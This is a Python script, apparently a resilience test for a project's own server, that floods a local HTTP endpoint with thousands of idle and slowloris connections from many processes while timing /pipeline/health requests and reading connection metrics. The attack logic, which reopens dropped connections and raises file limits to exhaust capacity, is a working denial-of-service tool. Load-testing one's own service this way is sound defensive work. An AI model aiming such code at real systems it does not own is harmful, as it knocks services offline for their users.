#!/usr/bin/env python3
"""/pipeline/health latency while an attacker holds idle and slowloris connections (issue 14, item 3).

The attacker keeps --idle connections open that never send a byte and --slowloris connections
that send one header line every --trickle seconds and never finish their head; whatever the
server closes is opened again at once, so the pressure stays for the whole run (with
--no-reopen the connections are opened once and held: the server's head timeout ends them
after 10 s, so then measure right after opening, --warmup 3). It runs as
several processes (one epoll loop each, at most 18,000 connections a process: a process here
may not raise its hard RLIMIT_NOFILE above 20,000, which it raises its soft limit to), from
source addresses 127.0.0.2... for more ephemeral ports. Meanwhile this process asks
GET /pipeline/health --requests times, each on a new connection (the worst case: it has to
get in), and prints p50, p99 and max, with the server's connection counters.

usage: hostile-load.py --url http://127.0.0.1:8080 [--idle 20000] [--slowloris 500]
       [--requests 100] [--warmup 15] [--read-token T]
"""
import argparse
import errno
import json
import multiprocessing
import resource
import selectors
import socket
import statistics
import sys
import time
import urllib.parse


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    for target in (max(want, hard), hard):
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (target, max(target, hard)))
            break
        except (ValueError, OSError):
            continue
    return resource.getrlimit(resource.RLIMIT_NOFILE)


def measure(host, port, n, token, out):
    """GET /pipeline/health n times, each on a new connection: seconds per answer (None: failed)."""
    times, statuses = [], {}
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    for _ in range(n):
        began = time.perf_counter()
        status = None
        try:
            s = socket.create_connection((host, port), timeout=10)
            s.sendall(f"GET /pipeline/health HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}Connection: close\r\n\r\n".encode())
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            s.close()
            status = int(data.split()[1]) if data.startswith(b"HTTP/1.1") else None
        except OSError:
            pass
        elapsed = time.perf_counter() - began
        statuses[status] = statuses.get(status, 0) + 1
        times.append(elapsed if status == 200 else None)
        time.sleep(0.05)
    out.put((times, statuses))


class Attacker:
    def __init__(self, host, port, idle, slow, trickle, reopen=True):
        self.host, self.port = host, port
        self.want = {"idle": idle, "slow": slow}
        self.trickle = trickle
        self.selector = selectors.DefaultSelector()
        self.open = {"idle": 0, "slow": 0}
        self.reopened = 0
        self.failed = 0
        self.slow = {}  # socket -> [next line's time, request line sent]
        self.source = 0
        self.reopen = reopen
        self.filled = False
        self.established = set()

    def connect(self, kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        # 127.0.0.2 ... 127.0.0.9: each source address has its own ephemeral ports.
        s.bind((f"127.0.0.{2 + self.source % 8}", 0))
        self.source += 1
        err = s.connect_ex((self.host, self.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            self.failed += 1
            return
        # Writable once the handshake is done (established), readable when the server closes it.
        self.selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, kind)
        self.open[kind] += 1
        if kind == "slow":
            self.slow[s] = [time.monotonic() + 0.2, False]

    def drop(self, s, kind):
        self.selector.unregister(s)
        s.close()
        self.open[kind] -= 1
        self.slow.pop(s, None)
        self.established.discard(s)

    def fill(self, budget=2000):
        if self.filled and not self.reopen:
            return
        self.filled = all(self.open[k] >= self.want[k] for k in self.want)
        for kind in ("slow", "idle"):
            while self.open[kind] < self.want[kind] and budget > 0:
                try:
                    self.connect(kind)
                except OSError:
                    self.failed += 1
                    return
                budget -= 1
                self.reopened += 1

    def step(self, timeout=0.05):
        for key, events in self.selector.select(timeout):
            s, kind = key.fileobj, key.data
            if events & selectors.EVENT_WRITE:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    self.drop(s, kind)
                    continue
                self.established.add(s)
                self.selector.modify(s, selectors.EVENT_READ, kind)
                if not events & selectors.EVENT_READ:
                    continue
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data or kind == "slow":
                self.drop(s, kind)  # closed (or answered 408 then closed): opened again by fill
        now = time.monotonic()
        for s, state in list(self.slow.items()):
            if state[0] > now:
                continue
            try:
                s.send(b"X-Slowloris: 1\r\n" if state[1] else f"GET /pipeline/health HTTP/1.1\r\nHost: {self.host}\r\n".encode())
                state[:] = [now + self.trickle, True]
            except (BlockingIOError, InterruptedError):
                state[0] = now + 0.1
            except OSError:
                self.drop(s, "slow")
        self.fill()


def metrics(host, port, token):
    try:
        s = socket.create_connection((host, port), timeout=10)
    except OSError as e:
        return {"unreachable": str(e)}
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    s.sendall(f"GET /metrics HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}Connection: close\r\n\r\n".encode())
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    found = {}
    for line in data.decode(errors="replace").splitlines():
        if line.startswith("cardwatch_http_connections"):
            name, value = line.rsplit(" ", 1)
            found[name] = float(value)
    return found


def attack(host, port, idle, slow, trickle, reopen, first_source, stop, out):
    raise_nofile(idle + slow + 1024)
    attacker = Attacker(host, port, idle, slow, trickle, reopen)
    attacker.source = first_source
    while not stop.is_set():
        attacker.step()
    out.put((attacker.open, len(attacker.established), attacker.reopened, attacker.failed))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--url", default="http://127.0.0.1:8080")
    p.add_argument("--idle", type=int, default=20_000)
    p.add_argument("--slowloris", type=int, default=500)
    p.add_argument("--trickle", type=float, default=2.0, help="seconds between a slowloris connection's header lines")
    p.add_argument("--requests", type=int, default=100)
    p.add_argument("--warmup", type=float, default=15.0, help="seconds of attack before measuring")
    p.add_argument("--read-token")
    p.add_argument("--no-reopen", action="store_true", help="open the connections once and hold them")
    args = p.parse_args()
    u = urllib.parse.urlparse(args.url)
    host, port = u.hostname, u.port or 80
    workers = max(1, -(-(args.idle + args.slowloris) // 18_000))
    print(f"target {args.idle} idle + {args.slowloris} slowloris on {host}:{port}, from {workers} processes", file=sys.stderr)
    stop, out = multiprocessing.Event(), multiprocessing.Queue()
    attackers = [
        multiprocessing.Process(target=attack, args=(
            host, port, args.idle // workers + (i < args.idle % workers), args.slowloris // workers + (i < args.slowloris % workers),
            args.trickle, not args.no_reopen, i * 4, stop, out))
        for i in range(workers)]
    for a in attackers:
        a.start()
    time.sleep(args.warmup)
    before = metrics(host, port, args.read_token)
    results = multiprocessing.Queue()
    measure(host, port, args.requests, args.read_token, results)
    times, statuses = results.get()
    after = metrics(host, port, args.read_token)
    stop.set()
    totals = {"idle": 0, "slow": 0, "established": 0, "opened": 0, "connect_failures": 0}
    for _ in attackers:
        open_, established, opened, failed = out.get()
        totals["idle"] += open_["idle"]
        totals["slow"] += open_["slow"]
        totals["established"] += established
        totals["opened"] += opened
        totals["connect_failures"] += failed
    for a in attackers:
        a.join()
    ok = sorted(t for t in times if t is not None)
    q = statistics.quantiles(ok, n=100) if len(ok) >= 2 else [float("nan")] * 99
    print(json.dumps({
        "requests": args.requests, "statuses": {str(k): v for k, v in statuses.items()},
        "p50_ms": round(q[49] * 1000, 2), "p99_ms": round(q[98] * 1000, 2), "max_ms": round(max(ok) * 1000, 2) if ok else None,
        "attacker_at_the_end": totals, "server_metrics_before": before, "server_metrics_after": after,
    }, indent=1))


if __name__ == "__main__":
    main()
